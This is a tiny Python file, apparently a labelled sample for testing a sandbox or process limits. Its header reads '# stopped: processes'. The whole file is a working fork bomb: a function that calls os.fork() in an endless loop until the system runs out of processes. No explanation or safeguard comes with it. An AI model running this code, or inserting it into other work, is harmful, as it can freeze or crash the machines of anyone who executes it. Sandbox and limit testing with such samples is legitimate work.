# stopped: processes
import os


def fork_bomb() -> None:
    while True:
        os.fork()
